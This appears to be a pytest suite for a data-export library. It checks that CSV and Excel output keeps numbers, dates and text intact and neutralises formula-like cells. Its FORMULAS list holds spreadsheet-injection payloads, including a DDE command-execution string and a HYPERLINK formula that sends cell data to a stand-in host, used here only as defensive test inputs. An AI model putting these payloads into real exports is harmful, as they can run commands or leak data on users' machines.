"""Exports: text stays text, numbers stay numbers, and what cannot be written says why."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from resources.errors import InputError, SchemaError
from resources.exporting import to_csv, to_excel, to_parquet
from resources.exporting.excel_file import MAX_ROWS, sheet_names
from tests.resources.exporting.workbook import cells, names, parts

TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    " =1",
    "\u200b=1",
    "\x00=1",
    "\ufeff=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
]
HARMLESS = ["a=1", "Toys 'R' Us", "1-2", "", "'quoted'", 'say "no"', "a;b,c", "zwei\nZeilen", "É🙂"]
NOON = datetime(2026, 11, 21, 12, tzinfo=UTC)
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
RISKY = st.builds(lambda start, rest: start + rest, st.sampled_from(TRIGGERS), TEXT) | TEXT


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_run_is_written_as_text(text: str) -> None:
    table = pa.table({text: [text]})
    shown = text.replace("\x00", "")
    assert read_csv(to_csv(table)) == [[f"'{shown}"], [f"'{shown}"]]
    for cell in cells(to_excel({"s": table})).values():
        assert (cell.kind, cell.is_text_for_ever) == ("inlineStr", True)


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_written_as_it_is(text: str) -> None:
    table = pa.table({"name": [text, "last"]})
    assert read_csv(to_csv(table))[1] == [text]
    found = cells(to_excel({"s": table}))
    if text:  # Excel knows no empty text beside the empty cell
        assert (found["A2"].value, found["A2"].is_text_for_ever) == (text, False)


@settings(deadline=None)
@given(texts=st.lists(RISKY, min_size=1, max_size=5), name=RISKY)
def test_no_cell_of_a_csv_starts_like_a_formula(texts: list[str], name: str) -> None:
    read = read_csv(to_csv(pa.table({name: [*texts, "end"]})))
    assert not [cell for row in read for cell in row if cell.startswith(TRIGGERS)]
    written = [name, *texts, "end"]
    assert [row[0].removeprefix("'") if row else "" for row in read] == [
        text.replace("\x00", "").removeprefix("'") for text in written
    ]


@settings(deadline=None, max_examples=50)
@given(texts=st.lists(RISKY, min_size=1, max_size=5), name=TEXT)
def test_any_text_makes_a_workbook_that_can_be_read(texts: list[str], name: str) -> None:
    found = cells(to_excel({name: pa.table({name: texts})}))
    assert all(cell.kind == "inlineStr" for cell in found.values())


def test_a_text_that_looks_like_a_link_an_escape_or_a_number_stays_a_text() -> None:
    texts = ["https://evil.test", "mailto:x@y.test", "007", "true"]
    book = to_excel({"s": pa.table({"t": texts})})
    assert [cell.value for cell in cells(book).values()] == ["t", *texts]
    assert not [name for name in parts(book) if "rels" in name and "sheet1" in name]
    assert "_x005F_x0041_" in cells(to_excel({"s": pa.table({"t": ["_x0041_"]})}))["A2"].value


def test_characters_that_xml_forbids_are_dropped() -> None:
    book = to_excel({"\x01s": pa.table({"a\x0b": ["x\x00\x08\uffffy\tz"]})})
    assert [cell.value for cell in cells(book).values()] == ["a", "xy\tz"]


def test_half_a_character_becomes_a_question_mark() -> None:
    frame = pd.DataFrame({"t": pd.Series(["half \ud83d", None, 7], dtype=object)[:2]})
    assert to_csv(frame) == b'"t"\n"half ?"\n\n'
    assert cells(to_excel({"\ud83d": frame}))["A2"].value == "half ?"


NUMBERS: dict[str, Any] = {
    "whole": [-5, 0, None],
    "rate": [-0.25, float("nan"), float("inf")],
    "usd": [Decimal("-1.50"), Decimal("2.00"), None],
    "known": [True, False, None],
}


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    table = pa.table(NUMBERS)
    assert to_csv(table).decode().splitlines() == [
        '"whole","rate","usd","known"',
        "-5,-0.25,-1.50,true",
        "0,,2.00,false",
        ",,,",
    ]
    found = {ref: (one.value, one.kind) for ref, one in cells(to_excel({"s": table})).items()}
    assert {ref: value for ref, value in found.items() if ref[1] != "1"} == {
        "A2": ("-5", "n"),
        "B2": ("-0.25", "n"),
        "C2": ("-1.50", "n"),
        "D2": ("1", "b"),
        "A3": ("0", "n"),
        "C3": ("2.00", "n"),
        "D3": ("0", "b"),
    }


def test_a_number_that_excel_would_round_is_written_as_text() -> None:
    found = cells(to_excel({"s": pa.table({"id": [10**15 - 1, 1234567890123456789]})}))
    assert (found["A2"].kind, found["A3"].kind) == ("n", "inlineStr")
    assert found["A3"].value == "1234567890123456789"


def test_moments_are_utc_whatever_their_zone() -> None:
    paris = NOON.astimezone(timezone(timedelta(hours=1)))
    for moments in ([NOON], [paris], [NOON.replace(tzinfo=None)]):
        frame = pd.DataFrame({"asked_at": moments})
        assert read_csv(to_csv(frame))[1] == ["2026-11-21T12:00:00.000000Z"]
        found = cells(to_excel({"s": frame}))
        assert (found["A1"].value, found["A2"].value) == ("asked_at (UTC)", "46347.5")


def test_days_are_days_and_those_before_excels_first_are_text() -> None:
    table = pa.table({"day": [date(2026, 11, 21), date(1815, 6, 18)]})
    assert to_csv(table) == b'"day"\n2026-11-21\n1815-06-18\n'
    found = cells(to_excel({"s": table}))
    assert (found["A2"].value, found["A3"].value) == ("46347", "1815-06-18")


def test_lists_and_structures_are_json() -> None:
    table = pa.table({"ids": [["=a", "é"], None], "facts": [{"n": 1}, None]})
    rows = read_csv(to_csv(table))
    assert rows[1] == ['["=a", "é"]', '{"n": 1}']
    assert rows[2] == ["", ""]
    assert cells(to_excel({"s": table}))["B2"].value == '{"n": 1}'


def test_a_text_longer_than_a_cell_says_that_it_goes_on() -> None:
    texts = ["x" * 32_767, "x" * 32_768, "🙂" * 20_000]
    found = cells(to_excel({"s": pa.table({"t": texts})}))
    assert found["A2"].value == texts[0]
    assert found["A3"].value == "x" * 32_766 + "…"
    assert found["A4"].value == "🙂" * 16_383 + "…"
    assert read_csv(to_csv(pa.table({"t": texts})))[3] == [texts[2]]


def test_a_table_larger_than_a_sheet_says_what_to_do() -> None:
    table = pa.table({"n": pa.nulls(MAX_ROWS)})
    with pytest.raises(InputError, match=r"'big' has 1,048,576 rows .* CSV or Parquet"):
        to_excel({"big": table})
    wide = pa.table({str(n): pa.nulls(0) for n in range(16_385)})
    with pytest.raises(InputError, match=r"16,385 columns"):
        to_excel({"wide": wide})
    with pytest.raises(InputError, match="at least one table"):
        to_excel({})


def test_empty_tables_are_their_header_alone() -> None:
    table = pa.table({"a": pa.array([], pa.string()), "b": pa.array([], pa.int64())})
    assert to_csv(table) == b'"a","b"\n'
    book = to_excel({"s": table, "nothing": pa.table({})})
    assert [cell.value for cell in cells(book).values()] == ["a", "b"]
    assert cells(book, sheet=2) == {}
    assert to_csv(pa.table({})) == b""


@pytest.mark.parametrize(
    ("wanted", "given_names"),
    [
        (["[a]:*?/\\b"], ["_a______b"]),
        (["x" * 40, "X" * 40], ["x" * 31, "X" * 27 + " (2)"]),
        (["'quoted'", "", "  ", "'"], ["quoted", "Sheet", "Sheet (2)", "Sheet (3)"]),
        (["History", "a\x00b", "🙂" * 20], ["History_", "a_b", "🙂" * 15]),
    ],
)
def test_a_sheet_gets_a_name_that_excel_takes(wanted: list[str], given_names: list[str]) -> None:
    assert sheet_names(wanted) == given_names


@settings(deadline=None, max_examples=50)
@given(wanted=st.lists(st.text(st.characters(), max_size=40), min_size=1, max_size=4, unique=True))
def test_whatever_the_names_every_table_gets_its_sheet(wanted: list[str]) -> None:
    book = to_excel({name: pa.table({"n": [1]}) for name in wanted})
    assert names(book) == sheet_names(wanted)


def test_parquet_keeps_every_value_as_it_is() -> None:
    table = pa.table({"t": pa.array([*FORMULAS, None], pa.large_string())})
    assert pq.read_table(io.BytesIO(to_parquet(table))).equals(table)
    frame = pd.DataFrame({"asked_at": [NOON], "n": [1]})
    assert pq.read_table(io.BytesIO(to_parquet(frame))).schema.metadata is None


def test_the_same_table_is_the_same_bytes() -> None:
    table = pa.table(NUMBERS)
    for write in (to_csv, to_parquet, lambda one: to_excel({"s": one})):
        assert write(table) == write(table)


@pytest.mark.parametrize(
    ("frame", "reason"),
    [
        (pd.DataFrame({"t": pd.Series(["x", 1], dtype=object)}), "cannot be exported"),
        (pd.DataFrame([[1, 2]], columns=["a", "a"]), "twice|[Dd]uplicate"),
        (pa.table([pa.array([1]), pa.array([2])], names=["a", "a"]), "twice: a, a"),
    ],
)
def test_a_table_that_is_none_is_told(frame: Any, reason: str) -> None:
    with pytest.raises(SchemaError, match=reason):
        to_csv(frame)
